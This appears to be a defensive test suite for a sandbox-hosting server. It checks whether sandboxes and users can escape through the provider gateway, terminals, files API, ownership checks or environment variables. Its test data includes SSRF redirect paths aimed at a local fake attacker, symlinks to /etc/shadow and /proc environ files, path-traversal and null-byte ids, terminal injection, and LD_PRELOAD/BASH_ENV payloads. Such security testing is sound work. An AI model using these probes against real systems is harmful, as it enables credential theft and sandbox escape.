/**
 * Escape probes against a real server: what a hostile sandbox or user can do through the
 * server's own surfaces (the provider gateway, terminals, the files API, ownership, request
 * environments) rather than through the driver alone (see core's runEscapeProbes).
 */
import { randomBytes } from "node:crypto";
import { readdir, readFile, writeFile } from "node:fs/promises";
import type { IncomingHttpHeaders, Server } from "node:http";
import { createServer } from "node:http";
import type { AddressInfo, Socket } from "node:net";
import { createServer as createTcpServer } from "node:net";
import { join } from "node:path";
import type { EscapePayloads } from "@polydev/core/testing";
import {
  parseProbeOutput,
  preparePayloads,
  probeProgram,
  SURVEY_SCRIPT,
  TERMINAL_INJECT_SCRIPT,
} from "@polydev/core/testing";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import WebSocket from "ws";
import type { ApiClient, TestServer } from "./testing/harness.js";
import { createUser, startTestServer } from "./testing/harness.js";

const REAL_KEY = "sk-ant-api03-REAL-ESCAPE-PROBE-KEY-0123456789";
const HOST_SECRET = `host-only-${randomBytes(8).toString("hex")}`;

/** The configured upstream: records what reached it, answers like a provider. */
let upstream: Server;
const upstreamSeen: { url: string; headers: IncomingHttpHeaders }[] = [];
/** Somewhere a redirected request (and the real key) must never arrive. */
let attacker: { port: number; connections: number; bytes: string; close(): Promise<void> };
let t: TestServer;
let alice: ApiClient;
let bob: ApiClient;
let aliceNone: string;
let aliceEgress: string;
let serverPort: number;
let gatewayPort: number;

async function startAttacker(): Promise<typeof attacker> {
  const sockets = new Set<Socket>();
  const state = { port: 0, connections: 0, bytes: "", close: async () => undefined };
  const server = createTcpServer((socket) => {
    state.connections += 1;
    sockets.add(socket);
    socket.on("data", (chunk: Buffer) => {
      if (state.bytes.length < 65_536) state.bytes += chunk.toString("latin1");
    });
    socket.on("close", () => sockets.delete(socket));
    socket.end("HTTP/1.1 200 OK\r\ncontent-length: 8\r\n\r\nattacker");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  state.port = (server.address() as AddressInfo).port;
  state.close = () =>
    new Promise<void>((resolve) => {
      for (const socket of sockets) socket.destroy();
      server.close(() => resolve());
    });
  return state;
}

beforeAll(async () => {
  upstream = createServer((req, res) => {
    upstreamSeen.push({ url: req.url ?? "", headers: req.headers });
    req.resume();
    res.writeHead(200, { "content-type": "application/json" }).end('{"upstream":"legit"}');
  });
  await new Promise<void>((resolve) => upstream.listen(0, "127.0.0.1", resolve));
  const url = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
  attacker = await startAttacker();
  process.env.POLYDEV_ESCAPE_SERVER_SECRET = HOST_SECRET;
  t = await startTestServer({ upstreams: { anthropic: url, openai: url, gemini: url } });
  serverPort = Number(new URL(t.url).port);
  alice = await createUser(t.api, "alice");
  bob = await createUser(t.api, "bob");
  for (const provider of ["anthropic", "openai", "gemini"]) {
    const put = await alice.call("PUT", `/v1/credentials/${provider}`, { apiKey: REAL_KEY });
    expect(put.status).toBe(200);
  }
  aliceNone = await alice.createSandbox({ network: "none" });
  aliceEgress = await alice.createSandbox({ network: "egress" });
  for (const id of [aliceNone, aliceEgress]) {
    const opened = await alice.call<{ port: number }>("POST", `/v1/sandboxes/${id}/gateway`);
    expect(opened.status).toBe(200);
    gatewayPort = opened.body.port;
  }
}, 120_000);

afterAll(async () => {
  delete process.env.POLYDEV_ESCAPE_SERVER_SECRET;
  await t?.close();
  await attacker?.close();
  upstream?.close();
});

/** Runs a probe program in a sandbox through the API and returns its JSON. */
async function python<T>(api: ApiClient, id: string, script: string, arg: unknown = {}): Promise<T> {
  const result = await api.exec(id, ["python3", "-c", script, JSON.stringify(arg)]);
  // How it ended is in the label, so a probe that printed nothing says why (killed, timed out, 4xx).
  const ended = `HTTP ${result.status}, exit ${result.body.exitCode}, signal ${result.body.signal}, timed out ${result.body.timedOut}`;
  return parseProbeOutput<T>(`${result.body.stdout}\n${result.body.stderr}`, `the probe program (${ended})`);
}

/**
 * Exact request bytes to the sandbox's gateway port (curl would normalise the very paths that
 * matter here), with the sandbox's own placeholder key.
 */
const RAW_HTTP = probeProgram(String.raw`
out = []
key = os.environ.get("ANTHROPIC_API_KEY", "")
for target, extra, method in ARG["requests"]:
    s = socket.create_connection(("127.0.0.1", ARG["port"]), timeout=10)
    headers = {"Host": "127.0.0.1:%d" % ARG["port"], "x-api-key": key, "authorization": "Bearer " + key,
               "x-goog-api-key": key, "content-type": "application/json", "content-length": "2", "connection": "close"}
    headers.update(extra)
    request = "%s %s HTTP/1.1\r\n" % (method, target) + "".join("%s: %s\r\n" % kv for kv in headers.items()) + "\r\n{}"
    s.sendall(request.encode("latin1"))
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    s.close()
    text = data.decode("latin1")
    out.append({"target": target, "status": text.split("\r\n", 1)[0], "body": text.split("\r\n\r\n", 1)[-1][:2000]})
emit(out)`);

interface RawAnswer {
  target: string;
  status: string;
  body: string;
}

async function throughGateway(
  id: string,
  requests: [string, Record<string, string>, ("GET" | "POST")?][],
): Promise<RawAnswer[]> {
  return python<RawAnswer[]>(alice, id, RAW_HTTP, {
    port: gatewayPort,
    requests: requests.map(([target, headers, method]) => [target, headers, method ?? "POST"]),
  });
}

/** Where the attacker's counters stood before a probe. */
const attackerMark = (): { connections: number; bytes: number } => ({
  connections: attacker.connections,
  bytes: attacker.bytes.length,
});

/**
 * Nothing reached the attacker, the key never came back, the upstream saw only its API paths,
 * and every answer was a refusal (4xx). Checked in that order, so a failure names the worst.
 */
function expectRefusedAndContained(
  answers: RawAnswer[],
  attackerBefore: { connections: number; bytes: number },
  upstreamBefore: number,
): void {
  expect(
    attacker.connections - attackerBefore.connections,
    `connections that reached the attacker (for ${answers.map((a) => a.target).join(", ")})`,
  ).toBe(0);
  expect(attacker.bytes.slice(attackerBefore.bytes), "the real key reached the attacker").not.toContain(
    REAL_KEY,
  );
  for (const answer of answers) {
    expect(answer.body).not.toContain(REAL_KEY);
    expect(answer.body, "the server's own /healthz answered through the gateway").not.toContain(
      '"status":"ok"',
    );
  }
  const offPath = upstreamSeen.slice(upstreamBefore).filter((seen) => !/^\/v1(beta)?\//.test(seen.url));
  expect(
    offPath.map((seen) => seen.url),
    "requests the upstream got outside the provider's API paths",
  ).toEqual([]);
  for (const answer of answers) {
    expect(answer.status, `gateway answer to ${answer.target}`).toMatch(/^HTTP\/1\.1 4\d\d/);
  }
}

describe("escape probes through the server: the provider gateway", () => {
  const variants: [string, (host: string) => string][] = [
    ["a protocol-relative path (//host)", (host) => `/anthropic//${host}/v1/messages`],
    ["a backslash path (\\\\host) under /openai", (host) => `/openai/\\\\${host}/v1/responses`],
    ["a mixed slash path (/\\host) under /gemini", (host) => `/gemini/\\/${host}/v1beta/models`],
    ["an encoded //host (%2F%2F)", (host) => `/anthropic/%2F%2F${host}/v1/messages`],
    ["an encoded \\\\host (%5C%5C)", (host) => `/openai/%5C%5C${host}/v1/responses`],
    ["a userinfo path (@host)", (host) => `/anthropic/@${host}/v1/messages`],
    ["dot segments climbing out of the API path", () => "/anthropic/v1/../../../healthz"],
    ["encoded dot segments", () => "/anthropic/v1/%2e%2e/%2e%2e/healthz"],
    ["a scheme in the path", (host) => `/anthropic/http://${host}/v1/messages`],
  ];

  it.each(variants)(
    "%s never leaves the configured upstream, from network none and egress",
    async (_name, path) => {
      for (const id of [aliceNone, aliceEgress]) {
        const attackerBefore = attackerMark();
        const upstreamBefore = upstreamSeen.length;
        const answers = await throughGateway(id, [
          [path(`127.0.0.1:${attacker.port}`), {}],
          [path(`127.0.0.1:${serverPort}`), {}],
          [path(`localhost:${attacker.port}`), {}],
        ]);
        expectRefusedAndContained(answers, attackerBefore, upstreamBefore);
      }
    },
  );

  it("a Host header, forwarding headers or an absolute-form target naming another host change nothing", async () => {
    const attackerBefore = attackerMark();
    const upstreamBefore = upstreamSeen.length;
    const target = `127.0.0.1:${attacker.port}`;
    const answers = await throughGateway(aliceNone, [
      ["/anthropic/v1/messages", { Host: target }],
      ["/anthropic/v1/messages", { "X-Forwarded-Host": target, Forwarded: `host=${target}` }],
      // An absolute-form request target names a host of its own.
      [`http://${target}/anthropic/v1/messages`, {}],
      [`http://${target}/v1/messages`, {}],
    ]);
    expect(attacker.connections - attackerBefore.connections).toBe(0);
    expect(attacker.bytes.slice(attackerBefore.bytes)).not.toContain(REAL_KEY);
    for (const answer of answers) expect(answer.body).not.toContain(REAL_KEY);
    // A normal API path with odd headers may be relayed, but only to the configured upstream.
    for (const seen of upstreamSeen.slice(upstreamBefore)) expect(seen.url).toMatch(/^\/v1\//);
  });

  it("the server's own port is unreachable through the gateway from a network-none sandbox", async () => {
    const answers = await throughGateway(aliceNone, [
      [`/anthropic//127.0.0.1:${serverPort}/healthz`, {}, "GET"],
      [`/anthropic//127.0.0.1:${serverPort}/v1/me`, {}, "GET"],
      [`/openai/\\\\127.0.0.1:${serverPort}/healthz`, {}, "GET"],
      [`/gemini/%2F%2F127.0.0.1:${serverPort}/healthz`, {}, "GET"],
    ]);
    for (const answer of answers) {
      expect(answer.body, `${answer.target} reached the server`).not.toContain('"status":"ok"');
      expect(answer.body).not.toContain('"driver"');
    }
  });
});

/** A terminal over the server's WebSocket that keeps its screen. */
class Terminal {
  screen = "";
  private constructor(readonly ws: WebSocket) {
    ws.on("message", (data, isBinary) => {
      if (isBinary) this.screen += data.toString();
    });
  }
  static async open(api: ApiClient, id: string): Promise<Terminal> {
    const ws = new WebSocket(`${t.url.replace("http", "ws")}/v1/sandboxes/${id}/pty`, {
      headers: { authorization: `Bearer ${api.key}` },
    });
    const terminal = new Terminal(ws);
    await new Promise<void>((resolve, reject) => {
      ws.on("message", (data, isBinary) => {
        if (!isBinary && String(data).includes('"ready"')) resolve();
      });
      ws.once("error", reject);
    });
    return terminal;
  }
  type(text: string): void {
    this.ws.send(Buffer.from(text), { binary: true });
  }
  async echo(word: string): Promise<void> {
    this.type(`echo ${word}\n`);
    const deadline = Date.now() + 15_000;
    while (this.screen.split(word).length < 3) {
      if (Date.now() > deadline)
        throw new Error(`the terminal never echoed ${word}: ${this.screen.slice(-500)}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  }
  close(): void {
    this.ws.terminate();
  }
}

describe("escape probes through the server: terminals", () => {
  it("user B's sandboxes (running and created later) cannot type into user A's open terminal", async () => {
    const bobEarly = await bob.createSandbox();
    const terminal = await Terminal.open(alice, aliceNone);
    try {
      await terminal.echo(`control-${randomBytes(4).toString("hex")}`);
      const marker = `INJECTED-${randomBytes(5).toString("hex")}`;
      await python(bob, bobEarly, TERMINAL_INJECT_SCRIPT, { marker });
      // Sandboxes created while the terminal is open (several: a driver may keep processes
      // prepared ahead, and those forked after the terminal opened come later).
      for (let round = 0; round < 4; round += 1) {
        const later = await bob.createSandbox();
        await python(bob, later, TERMINAL_INJECT_SCRIPT, { marker });
        await bob.call("DELETE", `/v1/sandboxes/${later}`);
      }
      await terminal.echo(`after-${randomBytes(4).toString("hex")}`);
      expect(terminal.screen, "user B reached user A's terminal").not.toContain(marker);
    } finally {
      terminal.close();
    }
  });

  it("a terminal's host-side descriptors never reach a sandbox created after it", async () => {
    const terminal = await Terminal.open(alice, aliceNone);
    try {
      await terminal.echo(`control-${randomBytes(4).toString("hex")}`);
      const inherited: string[] = [];
      for (let round = 0; round < 4; round += 1) {
        const later = await bob.createSandbox();
        const survey = await python<{ foreign: { pid: number; entry: string; target: string }[] }>(
          bob,
          later,
          SURVEY_SCRIPT,
        );
        for (const entry of survey.foreign) {
          if (/ptmx|pts|tty/.test(entry.target) || entry.target.includes(aliceNone)) {
            inherited.push(`round ${round}: pid ${entry.pid} ${entry.entry} -> ${entry.target}`);
          }
        }
        await bob.call("DELETE", `/v1/sandboxes/${later}`);
      }
      expect(inherited).toEqual([]);
    } finally {
      terminal.close();
    }
  });
});

describe("escape probes through the server: the files API", () => {
  let id: string;
  beforeAll(async () => {
    id = await alice.createSandbox();
  });

  async function link(name: string, target: string): Promise<void> {
    const made = await alice.exec(id, [
      "/bin/sh",
      "-c",
      'rm -rf "$1"; ln -s "$2" "$1" && echo made',
      "sh",
      name,
      target,
    ]);
    expect(made.body.stdout).toBe("made\n");
  }

  async function download(path: string): Promise<{ status: number; text: string }> {
    const response = await alice.call(
      "GET",
      `/v1/sandboxes/${id}/files/content?path=${encodeURIComponent(path)}`,
    );
    return {
      status: response.status,
      text: typeof response.body === "string" ? response.body : JSON.stringify(response.body),
    };
  }

  it("a symlink to /etc/shadow downloads as the sandbox's own view, never the host's", async () => {
    const shadow = await readFile("/etc/shadow", "utf8").catch(() => "");
    await link("l-shadow", "/etc/shadow");
    await link("l-proc-shadow", "/proc/1/root/etc/shadow");
    for (const name of ["l-shadow", "l-proc-shadow"]) {
      const got = await download(name);
      expect(got.status).toBeLessThan(500);
      for (const line of shadow.split("\n").filter((l) => l.length > 10))
        expect(got.text).not.toContain(line);
    }
  });

  it("a symlink into the server's data directory reaches neither the database nor the master key", async () => {
    const dataFiles = await readdir(t.dataDir);
    await link("l-data", t.dataDir);
    for (const name of dataFiles) {
      await link(`l-data-${name}`, join(t.dataDir, name));
      const direct = await download(`l-data-${name}`);
      const viaDir = await download(`l-data/${name}`);
      for (const got of [direct, viaDir]) {
        expect(got.text).not.toContain("SQLite format 3");
        expect(got.text).not.toContain(REAL_KEY);
      }
    }
    const listed = await alice.call("GET", `/v1/sandboxes/${id}/files?path=l-data`);
    for (const name of dataFiles) expect(JSON.stringify(listed.body)).not.toContain(`"${name}"`);
  });

  it("a symlink into /proc shows no host environment", async () => {
    await link("l-environ", "/proc/self/environ");
    await link("l-1-environ", "/proc/1/environ");
    for (const name of ["l-environ", "l-1-environ"]) {
      const got = await download(name);
      expect(got.text).not.toContain(HOST_SECRET);
      expect(got.text).not.toMatch(/NODE_EXTRA_CA_CERTS|VITEST/);
    }
  });

  it("uploads, mkdirs and deletes through a symlinked parent never touch the data directory", async () => {
    const canary = join(t.dataDir, `canary-${randomBytes(4).toString("hex")}`);
    await writeFile(canary, "canary\n", { mode: 0o600 });
    const before = (await readdir(t.dataDir)).sort();
    await link("l-up", t.dataDir);
    const name = `pwned-${randomBytes(4).toString("hex")}`;
    await alice.call("PUT", `/v1/sandboxes/${id}/files/content?path=l-up/${name}`, "pwned", {
      "content-type": "application/octet-stream",
    });
    await alice.call("POST", `/v1/sandboxes/${id}/files/mkdir`, { path: `l-up/${name}-dir` });
    const canaryName = canary.slice(t.dataDir.length + 1);
    await alice.call("DELETE", `/v1/sandboxes/${id}/files?path=${encodeURIComponent(`l-up/${canaryName}`)}`);
    await alice.call("DELETE", `/v1/sandboxes/${id}/files?path=l-up&recursive=true`);
    const after = (await readdir(t.dataDir)).sort();
    expect(after.filter((entry) => entry.startsWith("pwned-"))).toEqual([]);
    expect(after).toEqual(expect.arrayContaining(before));
    expect(await readFile(canary, "utf8")).toBe("canary\n");
  });

  it.each(["../../etc/passwd", "/etc/shadow", "a/../../../etc/passwd", "..", "%2e%2e/%2e%2e/etc/passwd"])(
    "GET files/content?path=%s is refused with a 4xx",
    async (path) => {
      const response = await alice.call(
        "GET",
        `/v1/sandboxes/${id}/files/content?path=${encodeURIComponent(path)}`,
      );
      if (path.includes("%2e")) {
        // Literally named "%2e%2e": a missing file inside the home, not a climb.
        expect(response.status).toBe(404);
        return;
      }
      expect(response.status).toBeGreaterThanOrEqual(400);
      expect(response.status).toBeLessThan(500);
      expect(response.body).toMatchObject({ error: { code: expect.any(String) } });
    },
  );
});

describe("escape probes through the server: ownership", () => {
  let aliceRun: string | undefined;
  let aliceProcess: string;
  beforeAll(async () => {
    const run = await alice.call<{ id: string }>("POST", "/v1/runs", {
      agent: "builtin",
      prompt: "say hello",
      sandboxId: aliceNone,
    });
    aliceRun = run.status === 201 ? run.body.id : undefined;
    const started = await alice.call<{ id: string }>("POST", `/v1/sandboxes/${aliceNone}/processes`, {
      cmd: "sleep 300",
    });
    aliceProcess = started.body.id;
  });

  it("another user's sandbox, process, gateway and run ids answer 404", async () => {
    const routes: [string, string, unknown?][] = [
      ["POST", `/v1/sandboxes/${aliceNone}/gateway`],
      ["GET", `/v1/sandboxes/${aliceNone}/processes/${aliceProcess}/output`],
      ["POST", `/v1/sandboxes/${aliceNone}/processes/${aliceProcess}/signal`, { signal: "SIGKILL" }],
      ["POST", `/v1/runs`, { agent: "builtin", prompt: "x", sandboxId: aliceNone }],
    ];
    if (aliceRun !== undefined) {
      routes.push(
        ["GET", `/v1/runs/${aliceRun}`],
        ["GET", `/v1/runs/${aliceRun}/events`],
        ["POST", `/v1/runs/${aliceRun}/cancel`],
      );
    }
    for (const [method, path, body] of routes) {
      const response = await bob.call(method, path, body);
      expect(response.status, `${method} ${path}`).toBe(404);
    }
    const process = await alice.call<{ state: string }>(
      "GET",
      `/v1/sandboxes/${aliceNone}/processes/${aliceProcess}`,
    );
    expect(process.body.state).toBe("running");
  });

  it("ids built to climb or inject answer 4xx, never 5xx or another user's data", async () => {
    for (const id of [
      "..",
      "%2e%2e",
      "..%2F..%2Fetc",
      `${aliceNone}%00`,
      `${aliceNone}/../${aliceNone}`,
      "*",
    ]) {
      const response = await bob.call("GET", `/v1/sandboxes/${id}`);
      expect(response.status, id).toBeGreaterThanOrEqual(400);
      expect(response.status, id).toBeLessThan(500);
    }
  });

  it("another user's sandboxes, runs, credentials and usage are not listed", async () => {
    const sandboxes = await bob.call<{ items: { id: string }[] }>("GET", "/v1/sandboxes");
    expect(sandboxes.body.items.map((item) => item.id)).not.toContain(aliceNone);
    const runs = await bob.call<{ items: { id: string }[] }>("GET", "/v1/runs");
    if (aliceRun !== undefined) expect(runs.body.items.map((item) => item.id)).not.toContain(aliceRun);
    const credentials = await bob.call<{ items: unknown[] }>("GET", "/v1/credentials");
    expect(credentials.body.items).toEqual([]);
    const usage = await bob.call<{ items: unknown[] }>("GET", "/v1/usage");
    expect(usage.body.items).toEqual([]);
  });
});

describe("escape probes through the server: request environments", () => {
  let payloads: EscapePayloads;
  beforeAll(async () => {
    payloads = await preparePayloads();
  });
  afterAll(async () => {
    await payloads?.cleanup();
  });

  async function install(id: string): Promise<void> {
    for (const file of payloads.files) {
      const path = encodeURIComponent(`.polydev-escape/${file.name}`);
      const put = await fetch(`${t.url}/v1/sandboxes/${id}/files/content?path=${path}`, {
        method: "PUT",
        headers: { authorization: `Bearer ${alice.key}`, "content-type": "application/octet-stream" },
        body: file.content,
      });
      expect(put.status).toBe(201);
    }
    const copied = await alice.exec(
      id,
      [
        "/usr/bin/env",
        "-i",
        "PATH=/usr/bin:/bin",
        "/bin/sh",
        "-c",
        `mkdir -p ${payloads.dir} && cp -R . ${payloads.dir}/ && chmod -R a+rx ${payloads.dir}`,
      ],
      { cwd: ".polydev-escape" },
    );
    expect(copied.body.exitCode).toBe(0);
    await payloads.takeHostMarker();
  }

  async function hostMarker(): Promise<string | undefined> {
    return payloads.takeHostMarker();
  }

  it("a sandbox created with LD_PRELOAD, BASH_ENV… runs nothing on the host through terminals, processes, execs or files", async () => {
    const id = await alice.createSandbox({ env: { ...payloads.env } });
    await install(id);
    const terminal = await Terminal.open(alice, id);
    try {
      await terminal.echo(`control-${randomBytes(4).toString("hex")}`);
    } finally {
      terminal.close();
    }
    const started = await alice.call<{ id: string }>("POST", `/v1/sandboxes/${id}/processes`, {
      cmd: ["/bin/bash", "-c", "true"],
    });
    expect(started.status).toBe(201);
    await alice.exec(id, ["/bin/bash", "-c", "true"]);
    await alice.call("PUT", `/v1/sandboxes/${id}/files/content?path=up.txt`, "x", {
      "content-type": "application/octet-stream",
    });
    await alice.call("GET", `/v1/sandboxes/${id}/files/content?path=up.txt`);
    await alice.call("GET", `/v1/sandboxes/${id}/files?path=.`);
    await new Promise((resolve) => setTimeout(resolve, 500));
    const host = await hostMarker();
    expect(host, `a payload ran in a HOST process:\n${host}`).toBeUndefined();
    const inside = await alice.exec(id, `cat ${payloads.marker}`);
    expect(inside.body.stdout, "no payload fired even inside: the probe proves nothing").toMatch(/uid=\d+ /);
  });

  it("env given to a background process and to an exec runs nothing on the host", async () => {
    const id = await alice.createSandbox();
    await install(id);
    const env = { ...payloads.env };
    const started = await alice.call("POST", `/v1/sandboxes/${id}/processes`, {
      cmd: ["/bin/bash", "-c", "true"],
      env,
    });
    expect(started.status).toBe(201);
    await alice.exec(id, ["/bin/bash", "-c", "true"], { env });
    await new Promise((resolve) => setTimeout(resolve, 500));
    const host = await hostMarker();
    expect(host, `a payload ran in a HOST process:\n${host}`).toBeUndefined();
    const inside = await alice.exec(id, `cat ${payloads.marker}`);
    expect(inside.body.stdout, "no payload fired even inside: the probe proves nothing").toMatch(/uid=\d+ /);
  });

  it("no process inside carries the server's own environment", async () => {
    const survey = await python<{ environ: { pid: number; comm: string; vars: string[] }[] }>(
      alice,
      aliceNone,
      SURVEY_SCRIPT,
    );
    const leaked: string[] = [];
    for (const block of survey.environ) {
      for (const pair of block.vars) {
        const name = pair.slice(0, pair.indexOf("="));
        if (pair.includes(HOST_SECRET) || name === "NODE_EXTRA_CA_CERTS" || name.startsWith("VITEST")) {
          leaked.push(`${block.comm}(${block.pid}): ${name}`);
        }
      }
    }
    expect(leaked).toEqual([]);
    const env = await alice.exec(aliceNone, "env");
    expect(env.body.stdout).not.toContain(REAL_KEY);
  });
});
